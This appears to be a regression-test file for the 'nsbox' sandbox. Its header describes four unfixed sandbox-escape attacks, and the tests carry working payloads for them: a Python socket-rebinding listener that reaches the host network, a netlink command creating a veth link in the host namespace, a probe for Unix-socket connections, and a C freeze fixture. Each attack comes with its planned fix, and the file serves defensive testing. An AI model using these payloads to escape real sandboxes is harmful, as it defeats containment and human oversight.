// Attacks on transparent egress (issue 14) that still WORK: each test here fails until the fix
// named in its comment lands. Real sandboxes; scripts/test runs this file as root and as uid 1000.
//
// A host TCP socket that nsbox installed in the payload's place (ADDFD) can be brought back to
// "unconnected" without any trapped call nsbox refuses: after the connection ends (an RST from
// the allowed server here; a FIN both ways, or shutdown() while SYN_SENT, do as well), one more
// connect() to the same allowed destination is decided "allowed" and executed on the host
// socket, where the kernel's sock_error path calls disconnect and sets SS_UNCONNECTED. bind()
// and listen() are not trapped: the payload then LISTENS IN THE HOST'S NETWORK NAMESPACE (any
// host address, any unprivileged port, or all interfaces with a bare listen()), and a host
// process (the user's browser opening localhost:PORT) talks to the sandbox.
// Fix (src/plan/seccomp-notify.ts + src/net/unotify.ts): trap bind and listen too; in the
// dispatcher refuse them (EPERM) on a socket that is not inSandbox(); on a sandbox inet socket
// execute them on nsbox's duplicate with nsbox's copy of the address (the object checked is the
// object acted on). AF_UNIX bind/listen must stay the payload's own (a path is created in its
// view, SO_PEERCRED names the listener): see the report for the choice there.
//
// nsbox executes the payload's netlink sends (sendmsg is always trapped; src/net/unotify.ts
// routeConnect/sendOne run every non-inet, non-Unix family "on the duplicate"), and the kernel
// checks CAP_NET_ADMIN against the SENDER: nsbox, which holds every capability over the sandbox's
// user namespace (and, when run as root, over the host's). So a payload with no capabilities
// adds addresses and links in its network namespace (nf_tables and xfrm become reachable: the
// kernel attack surface the default seccomp filter counts on CAP_NET_ADMIN to close), and with
// nsbox running as root it creates a link in the HOST's network namespace (`netns 1` is resolved
// in nsbox's PID namespace). Fix (src/net/unotify.ts, the "other families" path): on AF_NETLINK
// execute only read-only requests (NETLINK_ROUTE RTM_GET*, type >= 16 && (type & 3) == 2, with
// no *_TARGET_NETNSID attribute; NETLINK_SOCK_DIAG SOCK_DIAG_BY_FAMILY/TCPDIAG_GETSOCK); answer
// every other message EPERM, the kernel's answer to a payload without CAP_NET_ADMIN.
//
// A path Unix socket made by a host process is refused, but only after nsbox CONNECTED ITS OWN
// socket to it from the host (src/net/unix-socket.ts connectChecked: connect, then SO_PEERCRED,
// then close): the host service accepts a connection the payload asked for. A service that acts
// on connect (systemd Accept=yes starts an instance per connection; a server that greets, logs
// or counts) is driven from the sandbox. Fix (src/net/unix-socket.ts, owner diag): decide before
// any connect, e.g. with NETLINK_SOCK_DIAG UNIX_DIAG (UDIAG_SHOW_VFS) in the sandbox's network
// namespace: a listener bound there with the path's (dev, ino) was made inside; no other is
// connected at all.
//
// nsbox FREEZES: to connect the payload's socket inside the sandbox (an abstract Unix name here;
// a loopback TCP port the same way) nsbox sets O_NONBLOCK on its duplicate, which shares the
// payload's file description, then calls connect(2). A payload thread that clears O_NONBLOCK in
// a loop wins that window, and nsbox's main thread blocks in connect(2) on a listener whose
// backlog is full: no notification, lookup, terminal byte or exit is served while the payload
// lives (src/net/unix-socket.ts connectDuplicate; src/net/unotify.ts and src/net/egress.ts
// connectHere). Fix: never make a call that can block on a description the payload shares:
// run those connects on a thread of their own (the watcher's C side), or bound them with a
// per-thread timer signal (EINTR) armed around the call.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { createConnection, createServer, type Server } from "node:net";
import { copyFileSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { background, cleanedUp, collect, nsbox, scratchIn } from "./helpers.ts";

const PYTHON = "/usr/bin/python3";
const made = cleanedUp();
const env: Record<string, string> = Object.fromEntries(
  Object.entries(process.env).filter((e): e is [string, string] => e[1] !== undefined && !/_proxy$/i.test(e[0])),
);
const NO_PROXY_VARS = ["env", ...["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"].flatMap((n) => ["-u", n, "-u", n.toLowerCase()])];

/** Host server on 127.0.0.1 that answers every connection with an RST (SO_LINGER 0 close). */
let resetting: Server;
let resetPort = 0;
beforeAll(async () => {
  resetting = createServer((c) => c.resetAndDestroy());
  await new Promise<void>((r) => resetting.listen(0, "127.0.0.1", r));
  resetPort = (resetting.address() as { port: number }).port;
});
afterAll(() => resetting.close());

/*
 * The payload: connect to the allowed server (nsbox installs a host socket), wait for the reset,
 * connect again (decided allowed, executed on the host socket: now unconnected), then bind
 * (unless "bare") and listen, print the port, and greet whoever connects.
 */
const PAYLOAD = String.raw`
import socket, sys, time
port, how = int(sys.argv[1]), sys.argv[2]
s = socket.socket()
if how != "sandbox":
    s.connect(("127.0.0.1", port))
    try: s.recv(1)
    except OSError: pass
    time.sleep(0.1)
    try: s.connect(("127.0.0.1", port))
    except OSError as e: print("reconnect:", e, flush=True)
try:
    if how != "bare": s.bind(("127.0.0.1", 0))
    s.listen(4)
except OSError as e:
    print("REFUSED", e, "READY", flush=True); sys.exit(0)
print("LISTENING", s.getsockname()[1], s.getsockname()[0], "READY", flush=True)
s.settimeout(8)
try:
    c, _ = s.accept(); c.sendall(b"from-sandbox"); c.close()
except OSError: pass
`;

/** Connect from the host to 127.0.0.1:port: what it reads (empty when refused or silent). */
function hostReads(port: number): Promise<string> {
  return new Promise((resolve) => {
    let got = "";
    const c = createConnection({ host: "127.0.0.1", port });
    const done = () => resolve(got);
    c.setTimeout(4000, () => c.destroy());
    c.on("data", (d) => (got += d.toString()));
    c.on("error", done);
    c.on("close", done);
  });
}

async function attack(how: "reset" | "bare" | "sandbox") {
  const dir = scratchIn(made);
  writeFileSync(join(dir, "payload.py"), PAYLOAD);
  const run = background([process.execPath, "--no-env-file", "--config=/dev/null", join(import.meta.dir, "..", "bin", "nsbox"), `--net`, `allow=127.0.0.1:${resetPort}`, "--", ...NO_PROXY_VARS, PYTHON, "payload.py", String(resetPort), how], { cwd: dir, env });
  const ready = await run.waitFor("READY");
  const m = /LISTENING (\d+)/.exec(run.out);
  const read = m ? await hostReads(Number(m[1])) : "";
  run.proc.kill();
  const end = await run.finish();
  return { ready, out: run.out, read, stderr: end.stderr };
}

describe("a host socket nsbox installed is never a listener in the host's network", () => {
  test("control: a listener on the sandbox's own socket is not reachable from the host, and the host probe does reach a host listener", async () => {
    const r = await attack("sandbox");
    expect(r.out).toContain("LISTENING ");
    expect(r.read).toBe("");
    const host = createServer((c) => c.end("from-host"));
    await new Promise<void>((ok) => host.listen(0, "127.0.0.1", ok));
    expect(await hostReads((host.address() as { port: number }).port)).toBe("from-host");
    host.close();
  });

  for (const how of ["reset", "bare"] as const) {
    test(`after the allowed peer resets it, connect again then ${how === "bare" ? "listen()" : "bind()+listen()"}: the host never reaches the sandbox`, async () => {
      const r = await attack(how);
      expect(r.ready).toBe(true);
      expect(r.read).not.toContain("from-sandbox");
      expect(r.out).toContain("REFUSED");
    });
  }
});

describe("nsbox never lends the payload its own capabilities over netlink", () => {
  const IP = "/usr/sbin/ip";
  const add = "ip addr add 10.9.9.9/32 dev lo; echo rc=$?; ip -4 addr show dev lo";

  test("control: without the notify filter (proxy mode) the kernel refuses the payload, and the probe sees lo's addresses", async () => {
    if (!(await Bun.file(IP).exists())) throw new Error(`${IP} is missing: apt-get install -y iproute2`);
    const r = await nsbox(["--net", "none", "--", "sh", "-c", add], { cwd: scratchIn(made), env: { ...env, NSBOX_NET_MODE: "proxy" } });
    expect(r.stdout).toContain("inet 127.0.0.1/8");
    expect(r.stdout).not.toContain("10.9.9.9");
  });

  test("a payload without CAP_NET_ADMIN can't add an address to its own lo through nsbox", async () => {
    const r = await nsbox(["--net", "none", "--", "sh", "-c", `grep CapEff /proc/self/status; ${add}`], { cwd: scratchIn(made), env });
    expect(r.stdout).toContain("CapEff:\t0000000000000000");
    expect(r.stdout).toContain("inet 127.0.0.1/8");
    expect(r.stdout).not.toContain("10.9.9.9");
  });

  test("a payload can't create a link in the host's network namespace through nsbox (as root: nsbox's own CAP_NET_ADMIN)", async () => {
    const name = `nsbx${process.pid % 100000}`;
    const run = background([process.execPath, "--no-env-file", "--config=/dev/null", join(import.meta.dir, "..", "bin", "nsbox"), "--net", "none", "--", "sh", "-c", `ip link add v0 type veth peer name ${name} netns 1; echo DONE; sleep 5`], { cwd: scratchIn(made), env });
    expect(await run.waitFor("DONE")).toBe(true);
    const host = await collect([IP, "link", "show", name]);
    run.proc.kill();
    await run.finish();
    expect(host.stdout).not.toContain(name);
  });
});

describe("a refused Unix socket of the host never sees a connection", () => {
  const SERVER = String.raw`
import socket, sys
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(16); n = 0
print("UP", flush=True)
while True:
    c, _ = s.accept(); n += 1; print("ACCEPTED", n, flush=True); c.close()
`;
  const CLIENT = String.raw`
import socket, sys
s = socket.socket(socket.AF_UNIX)
try: s.connect(sys.argv[1]); print("CONNECTED")
except OSError as e: print("REFUSED", e.errno)
`;
  async function withHostServer(client: string[], cwdOf: (dir: string) => string) {
    const dir = scratchIn(made);
    const sub = join(dir, "sub");
    mkdirSync(sub);
    writeFileSync(join(dir, "server.py"), SERVER);
    writeFileSync(join(dir, "client.py"), CLIENT);
    const path = join(sub, "host.sock");
    const server = background([PYTHON, join(dir, "server.py"), path], { cwd: dir });
    expect(await server.waitFor("UP")).toBe(true);
    const ran = await collect(client.map((a) => a.replace("@PATH", path).replace("@DIR", dir)), { cwd: cwdOf(dir), env });
    await Bun.sleep(300);
    server.proc.kill();
    const out = (await server.finish()).stdout;
    return { ran, accepted: out.includes("ACCEPTED") };
  }

  test("control: the server counts a host client's connection", async () => {
    const r = await withHostServer([PYTHON, "@DIR/client.py", "@PATH"], (d) => d);
    expect(r.ran.stdout).toContain("CONNECTED");
    expect(r.accepted).toBe(true);
  });

  test("the payload is refused, and the host server accepted nothing", async () => {
    const r = await withHostServer([process.execPath, "--no-env-file", "--config=/dev/null", join(import.meta.dir, "..", "bin", "nsbox"), "--net", "none", "--", PYTHON, "client.py", "@PATH"], (d) => d);
    expect(r.ran.stdout).toContain("REFUSED 111");
    expect(r.accepted).toBe(false);
  });
});

describe("nsbox's own thread never blocks on a socket the payload shares", () => {
  async function freeze(mode: "flip" | "noflip") {
    const dir = scratchIn(made);
    copyFileSync(join(import.meta.dir, "fixtures", "freeze-nsbox.c"), join(dir, "freeze.c"));
    const cc = await collect(["gcc", "-O2", "-pthread", "-o", join(dir, "freeze"), join(dir, "freeze.c")], { cwd: dir });
    if (cc.exitCode !== 0) throw new Error(`gcc failed (apt-get install -y gcc libc6-dev): ${cc.stderr}`);
    const run = background([process.execPath, "--no-env-file", "--config=/dev/null", join(import.meta.dir, "..", "bin", "nsbox"), "--net", "none", "--", "./freeze", mode, "3"], { cwd: dir, env });
    // The payload ends by itself after about 4 s; a generous deadline, then nsbox is stopped.
    const ended = await Promise.race([run.proc.exited.then(() => true), Bun.sleep(40_000).then(() => false)]);
    if (!ended) run.proc.kill("SIGKILL");
    const end = await run.finish();
    return { ended, out: end.stdout };
  }

  test("control: without the flipping thread the probes go through and the run ends", async () => {
    const r = await freeze("noflip");
    expect(r.ended).toBe(true);
    expect(r.out).toContain("PROBES 15");
    expect(r.out).toContain("PAYLOAD DONE");
  }, 60_000);

  test("a thread clearing O_NONBLOCK while nsbox connects its socket doesn't freeze nsbox", async () => {
    const r = await freeze("flip");
    expect(r.out).not.toContain("STALLED");
    expect(r.out).toContain("PAYLOAD DONE");
    expect(r.ended).toBe(true);
  }, 60_000);
});
